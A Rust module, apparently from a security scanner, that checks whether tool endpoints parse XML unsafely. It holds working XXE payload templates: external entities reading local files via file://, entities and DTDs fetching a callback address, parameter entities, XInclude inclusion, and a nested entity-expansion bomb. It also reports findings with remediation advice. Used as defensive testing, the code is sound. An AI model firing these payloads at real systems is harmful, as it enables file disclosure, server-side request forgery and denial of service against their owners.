//! XML whose entities lead to files, to addresses, or to more than memory holds.

use crate::attack::{Attack, Form, Nonce, deliver_where, gets_through, nothing_else, openness};
use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
use crate::evidence::Profile::{Deep, Quick, Standard};
use crate::evidence::{Evidence, Exchange, Tool};
use crate::probe::{Call, Lane, Probe};
use crate::probes::benign::Tried;
use crate::probes::{benign, valid_call};
use crate::proof::{Oracle, Proof};
use crate::seed::Seed;
use crate::spec::served;

pub(super) const CHECK: Check = Check {
    id: "security/xxe",
    title: "XML entities lead nowhere",
    facet: Facet::Injection,
    severity: Severity::High,
    class: Some(Class::Xxe),
    requirements: &[served("SEC-07"), served("TOOL-24")],
    revisions: Revisions::All,
    needs: &[&valid_call::PROBE, &benign::PROBE, &PROBE],
    page: include_str!("xxe.md"),
    judge,
};

const PROBE: Probe = Probe { id: "xxe", hostile: true, lane: Lane::Shared, plan };

macro_rules! eleven {
    ($name:literal, $of:literal) => {
        concat!(
            "<!ENTITY ",
            $name,
            " \"",
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            "\">"
        )
    };
}

/// The first goes to every text, the others where XML is meant.
const FORMS: &[Form] = &[
    Form::new("file", Quick, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"file://«O»\">]>«D»", outside),
    Form::new(
        "address",
        Standard,
        "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\">]>«D»",
        visited,
    ),
    Form::new(
        "declared address",
        Standard,
        "<!DOCTYPE «d» SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"><«d»>a</«d»>",
        visited,
    ),
    Form::new(
        "parameter",
        Standard,
        "<!DOCTYPE «d» [<!ENTITY % e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"> %e;]><«d»>a</«d»>",
        visited,
    ),
    Form::new(
        "expansion",
        Standard,
        concat!(
            "<!DOCTYPE «d» [<!ENTITY a \"«L»\">",
            eleven!("b", "&a;"),
            eleven!("c", "&b;"),
            eleven!("f", "&c;"),
            eleven!("g", "&f;"),
            eleven!("h", "&g;"),
            eleven!("e", "&h;"),
            "]>«D»"
        ),
        expanded,
    ),
    Form::new("path", Deep, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"«O»\">]>«D»", outside),
    Form::new(
        "inclusion",
        Deep,
        "<«d» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://«O»\"/></«d»>",
        outside,
    ),
];

fn outside(_: &Nonce<'_>) -> Option<Oracle> {
    Some(Oracle::Planted { canary: "outside-file".to_owned() })
}

fn visited(n: &Nonce<'_>) -> Option<Oracle> {
    n.evidence.conditions.content.as_ref()?;
    Some(Oracle::Callback { token: format!("{}{}", n.left, n.right) })
}

/// Twelve megabytes: more than a careful parser makes of a small document, and no harm.
fn expanded(n: &Nonce<'_>) -> Option<Oracle> {
    let length = n.left.len() * 11_usize.pow(6);
    let of = [length.to_string(), n.left.repeat(2_000)].map(Oracle::computed);
    Some(Oracle::Any { of: of.into() })
}

fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
    let profile = evidence.conditions.profile;
    deliver_where(evidence, seed, PROBE.id, FORMS, |tool, tried, form| {
        form.least <= profile && (form.name == FORMS[0].name || takes_xml(tool, tried))
    })
}

/// By its name, what stands there, what is said of it, or what is said to a word that is none.
fn takes_xml(tool: &Tool, tried: &Tried<'_>) -> bool {
    let (place, about) = (&tried.place, tool.description.as_deref().unwrap_or_default());
    let said = [
        place.pointer.as_str(),
        about,
        &openness::of_parameter(tool, &place.pointer),
        &tried.word.reply.text(),
    ];
    let said = said.join(" ").to_lowercase();
    place.text.trim_start().starts_with('<')
        || ["xml", "svg", "rss", "atom feed", "soap", "saml", "opml", "well-formed", "doctype"]
            .iter()
            .any(|word| said.contains(word))
}

const ATTACK: Attack = Attack {
    probe: PROBE.id,
    hole,
    suspicion: nothing_else,
    reached: gets_through,
    clean: "no entity led anywhere",
};

fn judge(evidence: &Evidence) -> Vec<Finding> {
    ATTACK.judge(evidence)
}

fn hole(evidence: &Evidence, x: &Exchange, proof: Proof) -> Finding {
    let says = match &proof {
        Proof::PlantedContent { .. } => {
            "the parser put a file of the machine in place of an entity"
        }
        Proof::Callback { .. } => "the parser visited the address of an entity",
        Proof::Computed { .. }
        | Proof::SideEffect { .. }
        | Proof::Differential { .. }
        | Proof::Timing { .. }
        | Proof::Contradiction { .. }
        | Proof::Quoted { .. } => "a document of one kilobyte became twelve megabytes",
    };
    let fix = "turn off DTDs and external entities in the parser (`defusedxml`, `resolve_entities=False`, `disallow-doctype-decl`)";
    let finding = Finding::fail(x.subject.clone(), says, fix);
    let fetches = matches!(proof, Proof::Callback { .. }) && visits_any(evidence, x);
    if fetches { finding } else { finding.proven(proof) }
}

/// Whether a bare address in the same place was visited too: then it was not the parser.
fn visits_any(evidence: &Evidence, x: &Exchange) -> bool {
    let bare = |y: &&Exchange| y.subject == x.subject && y.label.starts_with("plain");
    let came = |y: &Exchange| y.oracle.as_ref().is_some_and(|o| o.proof(evidence, y).is_some());
    evidence.of("ssrf").find(bare).is_some_and(came)
}
